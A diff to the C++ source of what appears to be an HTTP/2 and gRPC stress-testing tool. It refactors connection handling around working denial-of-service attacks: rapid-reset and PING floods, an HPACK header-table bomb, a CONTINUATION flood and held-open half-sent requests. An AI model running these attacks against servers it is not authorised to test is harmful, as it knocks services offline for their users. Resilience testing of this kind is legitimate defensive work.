@@ -190,12 +190,19 @@ class Run {
   const Clock::time_point start_;
 };
 
-// Opens a connection for an attack, counting it or its failure on `r`.
-std::unique_ptr<Connection> OpenFor(Report& r, Connection::Options o) {
+// A connection for an attack, counted on `r`; nullptr, counted as a failure, after a
+// pause of 50 ms (so that a loop of reconnects does not spin on a refusing server).
+std::unique_ptr<Connection> Dial(Report& r, const Run& run, const Target& target,
+                                 bool read_while_writing = true) {
+  Connection::Options o;
+  o.target = target;
+  o.timeout = milliseconds(1000);
+  o.read_while_writing = read_while_writing;
   absl::StatusOr<std::unique_ptr<Connection>> c = Connection::Open(std::move(o));
   if (!c.ok()) {
     ++r.connect_failures;
     r.Note(std::string(c.status().message()));
+    run.Hold(milliseconds(50));
     return nullptr;
   }
   ++r.connections;
@@ -213,6 +220,42 @@ void Retire(Report& r, std::unique_ptr<Connection>& c) {
     r.Note(absl::StrCat("server closed a connection: ", c->observed().close_reason));
   }
   c.reset();
+}
+
+// Connections one after another, a new one when the server closes the last (or
+// `use` returns), up to `max_connections` while `more()` and the attack is not over;
+// ten failed connects in a row end it.
+void Serially(Report& r, const Run& run, const Target& target, uint32_t max_connections,
+              bool read_while_writing, const std::function<bool()>& more,
+              const std::function<void(Connection&)>& use) {
+  uint32_t failures_in_a_row = 0;
+  for (uint32_t n = 0; n < max_connections && more() && !run.Over(); ++n) {
+    std::unique_ptr<Connection> c = Dial(r, run, target, read_while_writing);
+    if (c == nullptr) {
+      if (++failures_in_a_row >= 10) break;
+      continue;
+    }
+    failures_in_a_row = 0;
+    use(*c);
+    Retire(r, c);
+  }
+}
+
+// Keeps `conns` open, answering SETTINGS and PINGs, until the attack is over or the
+// server closed them all; then retires them.
+void HoldAndRetire(Report& r, const Run& run, std::vector<std::unique_ptr<Connection>>& conns) {
+  bool any = true;
+  while (any && !run.Over()) {
+    any = false;
+    for (auto& c : conns) {
+      if (c->open()) {
+        any = true;
+        (void)c->Poll(milliseconds(0));
+      }
+    }
+    std::this_thread::sleep_for(milliseconds(20));
+  }
+  for (auto& c : conns) Retire(r, c);
 }
 
 const std::string& Zeros() {
@@ -655,7 +698,7 @@ absl::StatusOr<size_t> Connection::Data(uint32_t stream, std::string_view bytes,
 absl::Status Connection::Poll(milliseconds wait) {
   const auto until = Clock::now() + wait;
   while (true) {
-    while (true) {
+    for (int i = 0; i < 64; ++i) {  // at most 4 MiB before the writes get a turn
       absl::StatusOr<bool> read = ReadSome();
       if (!read.ok()) return read.status();
       if (!*read) break;
@@ -803,6 +846,23 @@ void Report::Absorb(const Observed& o) {
   }
 }
 
+void Report::Add(const Report& o, std::string_view label) {
+  connections += o.connections;
+  connect_failures += o.connect_failures;
+  connections_closed += o.connections_closed;
+  streams += o.streams;
+  frames += o.frames;
+  bytes += o.bytes;
+  data_bytes += o.data_bytes;
+  answered += o.answered;
+  ping_acks += o.ping_acks;
+  settings_acks += o.settings_acks;
+  for (const auto& [code, n] : o.rst_codes) rst_codes[code] += n;
+  for (const auto& [code, n] : o.goaway_codes) goaway_codes[code] += n;
+  for (const std::string& n : o.notes) Note(label.empty() ? n : absl::StrCat(std::string(label), ": ", n));
+  seconds += o.seconds;
+}
+
 std::string Report::Summary() const {
   std::vector<std::string> parts = {
       absl::StrCat("connections ", connections),
@@ -853,10 +913,7 @@ Report HalfSentRequests(const HalfSentOptions& o) {
   const std::string block = RequestHeaderBlock(o.request);
   const std::string prefix = GrpcPrefix(o.message_bytes);
   for (uint32_t i = 0; i < o.connections && !run.Over(); ++i) {
-    Connection::Options co;
-    co.target = o.target;
-    co.timeout = milliseconds(2000);
-    std::unique_ptr<Connection> c = OpenFor(r, co);
+    std::unique_ptr<Connection> c = Dial(r, run, o.target);
     if (c == nullptr) continue;
     for (uint32_t s = 0; s < o.streams_per_connection && c->open(); ++s) {
       const uint32_t id = c->NextStream();
@@ -901,19 +958,7 @@ Report HalfSentRequests(const HalfSentOptions& o) {
     }
   }
   r.Note(absl::StrCat(full, " of ", streams.size(), " streams sent all but their last byte"));
-  // Hold: answer SETTINGS and PINGs, never send the last bytes.
-  while (!run.Over()) {
-    bool any = false;
-    for (auto& c : conns) {
-      if (c->open()) {
-        any = true;
-        (void)c->Poll(milliseconds(0));
-      }
-    }
-    if (!any) break;
-    std::this_thread::sleep_for(milliseconds(20));
-  }
-  for (auto& c : conns) Retire(r, c);
+  HoldAndRetire(r, run, conns);  // never sending the last bytes
   r.seconds = run.Seconds();
   return r;
 }
@@ -1047,21 +1092,12 @@ Report Flood(const FloodOptions& o) {
   const std::string block = RequestHeaderBlock(o.request);
   std::string rst;
   PutU32(&rst, static_cast<uint32_t>(ErrorCode::kCancel));
-  uint32_t failures_in_a_row = 0;
-  for (uint32_t n = 0; n < o.max_connections && r.frames < o.max_frames && !run.Over(); ++n) {
-    Connection::Options co;
-    co.target = o.target;
-    co.timeout = milliseconds(1000);
-    co.read_while_writing = o.read_replies;
-    std::unique_ptr<Connection> c = OpenFor(r, co);
-    if (c == nullptr) {
-      if (++failures_in_a_row >= 10) break;
-      run.Hold(milliseconds(50));
-      continue;
-    }
-    failures_in_a_row = 0;
+  uint32_t n = 0;  // connections so far
+  const auto more = [&] { return r.frames < o.max_frames; };
+  Serially(r, run, o.target, o.max_connections, o.read_replies, more, [&](Connection& c) {
+    ++n;
     uint64_t ping = 0;
-    while (c->open() && r.frames < o.max_frames && !run.Over()) {
+    while (c.open() && more() && !run.Over()) {
       std::string batch;
       uint32_t frames = 0;
       for (uint32_t k = 0; k < o.frames_per_write; ++k) {
@@ -1077,14 +1113,14 @@ Report Flood(const FloodOptions& o) {
           }
           case FloodKind::kPing: {
             std::string payload;
-            PutU32(&payload, static_cast<uint32_t>(n));
+            PutU32(&payload, n);
             PutU32(&payload, static_cast<uint32_t>(++ping));
             batch += EncodeFrame(FrameType::kPing, 0, 0, payload);
             ++frames;
             break;
           }
           case FloodKind::kRapidReset: {
-            const uint32_t id = c->NextStream();
+            const uint32_t id = c.NextStream();
             if (id == 0) break;
             batch += EncodeFrame(FrameType::kHeaders, kEndHeaders, id, block);
             batch += EncodeFrame(FrameType::kRstStream, 0, id, rst);
@@ -1101,17 +1137,16 @@ Report Flood(const FloodOptions& o) {
           }
         }
       }
-      if (frames == 0) break;  // stream ids spent
-      if (absl::Status s = c->Write(batch); !s.ok()) {
+      if (frames == 0) return;  // stream ids spent
+      if (absl::Status s = c.Write(batch); !s.ok()) {
         r.Note(absl::StrCat("write: ", s.message()));
-        break;
+        return;
       }
       r.frames += frames;
-      if (o.read_replies) (void)c->Poll(milliseconds(0));
+      if (o.read_replies) (void)c.Poll(milliseconds(0));
       run.Pace(r.frames, o.frames_per_second);
     }
-    Retire(r, c);
-  }
+  });
   r.seconds = run.Seconds();
   return r;
 }
@@ -1135,42 +1170,32 @@ Report HpackBomb(const HpackOptions& o) {
       break;
   }
   uint64_t sent = 0;
-  for (uint32_t n = 0; n < o.max_connections && r.streams < o.max_streams && sent < o.max_bytes &&
-                       !run.Over();
-       ++n) {
-    Connection::Options co;
-    co.target = o.target;
-    co.timeout = milliseconds(1000);
-    std::unique_ptr<Connection> c = OpenFor(r, co);
-    if (c == nullptr) {
-      run.Hold(milliseconds(50));
-      continue;
-    }
+  const auto more = [&] { return r.streams < o.max_streams && sent < o.max_bytes; };
+  Serially(r, run, o.target, o.max_connections, true, more, [&](Connection& c) {
     bool first = true;
-    while (c->open() && r.streams < o.max_streams && sent < o.max_bytes && !run.Over()) {
-      const uint32_t id = c->NextStream();
-      if (id == 0) break;
+    while (c.open() && more() && !run.Over()) {
+      const uint32_t id = c.NextStream();
+      if (id == 0) return;
       std::string block = request;
       if (o.kind == HpackKind::kIndexedReferences && first) {
         // The one entry the references name: as large as the server's table holds.
-        const size_t room = c->peer().header_table_size > kHpackEntryOverhead + 6
-                                ? c->peer().header_table_size - kHpackEntryOverhead - 6
+        const size_t room = c.peer().header_table_size > kHpackEntryOverhead + 6
+                                ? c.peer().header_table_size - kHpackEntryOverhead - 6
                                 : 0;
         block += HpackLiteral("x-bomb", std::string(std::min<size_t>(o.header_bytes, room), 'x'),
                               Indexing::kIncremental);
         first = false;
       }
       block += body;
-      if (absl::Status s = c->Headers(id, block, /*end_stream=*/true); !s.ok()) {
+      if (absl::Status s = c.Headers(id, block, /*end_stream=*/true); !s.ok()) {
         r.Note(absl::StrCat("HEADERS: ", s.message()));
-        break;
+        return;
       }
       ++r.streams;
       sent += block.size();
-      (void)c->Poll(milliseconds(0));
+      (void)c.Poll(milliseconds(0));
     }
-    Retire(r, c);
-  }
+  });
   r.seconds = run.Seconds();
   return r;
 }
@@ -1179,26 +1204,18 @@ Report ContinuationFlood(const ContinuationOptions& o) {
   Report r;
   const Run run(o.control);
   const std::string block = RequestHeaderBlock(o.request);
-  for (uint32_t n = 0; n < o.max_connections && !run.Over(); ++n) {
-    Connection::Options co;
-    co.target = o.target;
-    co.timeout = milliseconds(1000);
-    std::unique_ptr<Connection> c = OpenFor(r, co);
-    if (c == nullptr) {
-      run.Hold(milliseconds(50));
-      continue;
-    }
-    const uint32_t id = c->NextStream();
-    if (absl::Status s = c->Headers(id, block, /*end_stream=*/false, /*end_headers=*/false);
+  uint64_t k = 0;  // headers so far
+  Serially(r, run, o.target, o.max_connections, true, [] { return true; }, [&](Connection& c) {
+    const uint32_t id = c.NextStream();
+    if (absl::Status s = c.Headers(id, block, /*end_stream=*/false, /*end_headers=*/false);
         !s.ok()) {
       r.Note(absl::StrCat("HEADERS: ", s.message()));
-      Retire(r, c);
-      continue;
+      return;
     }
     ++r.streams;
-    const size_t frame = std::min<size_t>(o.frame_bytes, c->peer().max_frame_size);
-    uint64_t sent = 0, k = 0;
-    while (c->open() && sent < o.max_bytes && !run.Over()) {
+    const size_t frame = std::min<size_t>(o.frame_bytes, c.peer().max_frame_size);
+    uint64_t sent = 0;
+    while (c.open() && sent < o.max_bytes && !run.Over()) {
       std::string batch;
       for (int i = 0; i < 16; ++i, ++k) {
         std::string payload;
@@ -1212,15 +1229,14 @@ Report ContinuationFlood(const ContinuationOptions& o) {
         batch += EncodeFrame(FrameType::kContinuation, 0, id, payload);
         sent += payload.size();
       }
-      if (absl::Status s = c->Write(batch); !s.ok()) {
+      if (absl::Status s = c.Write(batch); !s.ok()) {
         r.Note(absl::StrCat("CONTINUATION: ", s.message()));
-        break;
+        return;
       }
       r.frames += 16;
-      (void)c->Poll(milliseconds(0));
+      (void)c.Poll(milliseconds(0));
     }
-    Retire(r, c);
-  }
+  });
   r.seconds = run.Seconds();
   return r;
 }
@@ -1233,10 +1249,7 @@ Report HealthWatches(const HealthWatchOptions& o) {
   const std::string message = GrpcMessage(HealthCheckRequestBytes(o.service));
   std::vector<std::unique_ptr<Connection>> conns;
   for (uint32_t i = 0; i < o.connections && !run.Over(); ++i) {
-    Connection::Options co;
-    co.target = o.target;
-    co.timeout = milliseconds(1000);
-    std::unique_ptr<Connection> c = OpenFor(r, co);
+    std::unique_ptr<Connection> c = Dial(r, run, o.target);
     if (c == nullptr) continue;
     for (uint32_t s = 0; s < o.streams_per_connection && c->open() && !run.Over(); ++s) {
       const uint32_t id = c->NextStream();
@@ -1252,13 +1265,7 @@ Report HealthWatches(const HealthWatchOptions& o) {
     }
     conns.push_back(std::move(c));
   }
-  while (!run.Over()) {
-    for (auto& c : conns) {
-      if (c->open()) (void)c->Poll(milliseconds(0));
-    }
-    std::this_thread::sleep_for(milliseconds(20));
-  }
-  for (auto& c : conns) Retire(r, c);
+  HoldAndRetire(r, run, conns);
   r.seconds = run.Seconds();
   return r;
 }
@@ -1290,10 +1297,7 @@ Report HealthCheckBodies(const HealthCheckBodyOptions& o) {
       if (k.c == nullptr) {
         if (calls >= o.max_calls || reconnects >= o.max_calls) continue;
         ++reconnects;
-        Connection::Options co;
-        co.target = o.target;
-        co.timeout = milliseconds(1000);
-        k.c = OpenFor(r, co);
+        k.c = Dial(r, run, o.target);
         k.id = 0;
         if (k.c == nullptr) continue;
       }
